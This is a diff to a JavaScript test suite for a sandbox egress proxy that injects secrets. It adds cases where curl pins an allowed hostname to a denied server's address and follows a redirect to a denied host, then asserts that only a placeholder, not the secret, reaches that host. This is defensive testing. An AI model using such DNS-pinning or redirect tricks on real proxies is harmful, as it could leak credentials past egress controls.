@@ -118,6 +118,13 @@ describe('secret injection at the egress proxy (local driver)', {
         'echo',
         'curl -sSk --max-time 10 -H "X-Key: $API" "https://denied.fake.test/echo?t=h4"',
         'echo',
+        // DNS tricks: the allowed name pinned to the denied server's address; the proxy
+        // dials the address the name resolves to through sandboxd, never the dialled one.
+        `curl -sS --max-time 10 --resolve allowed.fake.test:443:${NET.denied.ip} "https://allowed.fake.test/echo?t=pinned"`,
+        'echo',
+        // A redirect from the injected name to another: followed by the sandbox, with the placeholder.
+        `curl -sSL --max-time 10 -H "X-Key: $API" "http://allowed.fake.test/redirect?to=${encodeURIComponent('http://denied.fake.test/echo?t=redirected')}"`,
+        'echo',
         // `internet` with rules: other ports still go straight out.
         'curl -sS --max-time 10 "http://denied.fake.test:8080/"',
       ].join('; '),
@@ -135,6 +142,12 @@ describe('secret injection at the egress proxy (local driver)', {
       assert.equal(h.headers?.['x-key'], PH, t);
       assert.equal(h.headers?.authorization, undefined, t);
     }
+    const [pinned] = await waitEchoed('t=pinned');
+    assert.equal(pinned.ip, NET.allowed.ip, 'the proxy dialled the name, not the pinned address');
+    assert.ok(!fi.log.some((l) => l.http?.ip === NET.denied.ip && JSON.stringify(l).includes(VALUE)));
+    const [redirected] = await waitEchoed('t=redirected');
+    assert.equal(redirected.ip, NET.denied.ip);
+    assert.equal(redirected.headers?.['x-key'], PH, 'the redirect carried the placeholder');
     // What came back reflected the request: with the placeholder where the value was.
     assert.ok(r.stdout.includes(`Bearer ${PH}`), r.stdout);
     assert.match(r.stdout, /"port":8080/);
